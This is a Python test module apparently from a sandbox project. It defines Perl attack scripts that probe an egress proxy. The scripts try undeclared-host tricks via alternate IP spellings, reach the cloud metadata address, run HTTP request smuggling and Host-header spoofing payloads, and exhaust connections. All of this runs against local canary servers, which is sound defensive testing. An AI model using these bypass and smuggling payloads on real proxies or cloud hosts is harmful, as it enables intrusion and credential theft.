"""Attacks on the way out that a package was given leave for: further than declared, or as somebody else."""

from __future__ import annotations

from keiken.sandbox.protocol import Egress
from tests.sandbox_escapes.attack import Attack
from tests.sandbox_escapes.canaries_web import beside_a_neighbor, web
from tests.sandbox_escapes.pens import METADATA

_ANYTHING = web(lambda heard, _most: bool(heard))
_SHOP = {
    "network": ["shop.test:{PORT}", "127.0.0.1:{PORT}"],
    "egress": Egress(addresses=frozenset({"127.0.0.1"}), names={"shop.test": ["127.0.0.1"]}),
}
"""Leave to reach the very server, which the attack then abuses."""
_WAY = r"""
# By the proxy where there is one, else straight to what is aimed at.
sub way { socket(my $s, AF_INET, SOCK_STREAM, 0);
  connect($s, pack_sockaddr_in($ENV{http_proxy} ? 3128 : $ENV{PORT}, inet_aton('127.0.0.1'))) or refused("no way: $!");
  $s }
sub ask { my $s = way(); syswrite($s, $_[0]); my ($a, $p) = ('');
  while ($a !~ /canary|Keiken-Refused/ && sysread($s, $p, 4096)) { $a .= $p } $a }
my $end = "\r\nHost: shop.test\r\n\r\n";
"""

ATTACKS = [
    Attack(
        name="egress_undeclared_host",
        outside=_ANYTHING,
        network=["shop.test:80"],
        egress=Egress(addresses=frozenset({"127.0.0.1"}), names={"shop.test": ["127.0.0.1"]}),
        script=_WAY
        + """my $all = '';
        for my $host ('127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '2130706433', 'shop.test.') {
          $all .= ask("CONNECT $host:$ENV{PORT} HTTP/1.1$end") . ask("GET http://$host:$ENV{PORT}/ HTTP/1.1$end"); }
        judge(scalar($all =~ /canary/), 'reached what is not declared');""",
    ),
    Attack(
        name="egress_other_port",
        outside=_ANYTHING,
        network=["shop.test:1", "127.0.0.1:1"],
        egress=Egress(addresses=frozenset({"127.0.0.1"}), names={"shop.test": ["127.0.0.1"]}),
        script=_WAY
        + """my $s = way(); syswrite($s, "CONNECT shop.test:$ENV{PORT} HTTP/1.1$end"); sysread($s, my $head, 4096);
        syswrite($s, "GET / HTTP/1.1$end"); sysread($s, my $body, 4096);
        judge(scalar("$head$body" =~ /canary/), 'reached another port');""",
    ),
    Attack(
        name="egress_name_that_leads_inside",
        outside=_ANYTHING,
        network=["inner.test:{PORT}"],
        egress=Egress(names={"inner.test": ["127.0.0.1", "::ffff:127.0.0.1"]}),
        script=_WAY
        + "judge(scalar(ask(\"GET http://inner.test:$ENV{PORT}/ HTTP/1.1$end\") =~ /canary/), 'reached inside');",
    ),
    Attack(
        name="egress_metadata_by_name",
        pen=METADATA,
        network=["cloud.test:80", "169.254.169.254:80"],
        egress=Egress(names={"cloud.test": ["169.254.169.254"]}),
        script=_WAY
        + """if ($ENV{http_proxy}) {
          my $all = join '', map { ask("CONNECT $_:80 HTTP/1.1$end") } 'cloud.test', '169.254.169.254';
          judge(scalar($all =~ m{^HTTP/1.1 200 }m), 'connected'); }
        socket(my $s, AF_INET, SOCK_STREAM, 0);
        judge(connect($s, pack_sockaddr_in(80, inet_aton('169.254.169.254'))), 'connected');""",
    ),
    Attack(
        name="egress_smuggled_request",
        outside=web(lambda heard, _most: b"/smuggled" in heard),
        **_SHOP,
        script=_WAY
        + """my $url = "http://shop.test:$ENV{PORT}/"; my $inner = "GET /smuggled HTTP/1.1$end";
        my $size = length($inner) + 5;
        ask("POST $url HTTP/1.1\r\nContent-Length: $size\r\nTransfer-Encoding: chunked$end" . "0\r\n\r\n$inner");
        ask("POST $url HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: $size$end$inner");
        ask("POST $url HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity$end" . "0\r\n\r\n$inner");
        ask("GET $url HTTP/1.1\r\nX: a\r\n\r\n$inner");
        refused('sent');""",
    ),
    Attack(
        name="egress_other_host_in_header",
        outside=web(lambda heard, _most: b"other.test" in heard or b"let-me-in" in heard),
        **_SHOP,
        script=_WAY
        + """my $url = "http://shop.test:$ENV{PORT}/";
        ask("GET $url HTTP/1.1\r\nHost: other.test\r\n\r\n");
        ask("GET $url HTTP/1.1\r\nHost: shop.test\r\nHost: other.test\r\n\r\n");
        ask("GET $url HTTP/1.1\r\nHost: shop.test\r\n Host: other.test\r\n\r\n");
        ask("GET http://other.test\\@shop.test:$ENV{PORT}/ HTTP/1.1$end");
        ask("GET $url HTTP/1.1\r\nHost: x\r\nConnection: X-Other\r\nX-Other: let-me-in\r\nProxy-Authorization: let-me-in\r\n\r\n");
        refused('sent');""",
    ),
    Attack(
        name="egress_of_a_neighbor",
        outside=beside_a_neighbor,
        network=["nobody.test:80"],
        egress=Egress(),
        script=_WAY
        + """my $all = '';
        for my $last (1 .. 20) { socket(my $s, AF_INET, SOCK_STREAM, 0);
          connect($s, pack_sockaddr_in($ENV{http_proxy} ? 3128 : $ENV{PORT}, inet_aton("127.0.0.$last"))) or next;
          syswrite($s, "GET http://127.0.0.1:$ENV{PORT}/ HTTP/1.1$end"); sysread($s, my $p, 4096); $all .= $p; }
        judge(scalar($all =~ /canary/), "by a neighbor's leave");""",
    ),
    Attack(
        name="egress_many_connections",
        outside=web(lambda _heard, most: most > 32),
        **_SHOP,
        script=_WAY
        + """my @held; for (1 .. 60) { my $s = way(); push @held, $s;
          syswrite($s, "CONNECT shop.test:$ENV{PORT} HTTP/1.1$end"); sysread($s, my $p, 1); }
        nap(0.3); refused('held ' . @held);""",
    ),
]
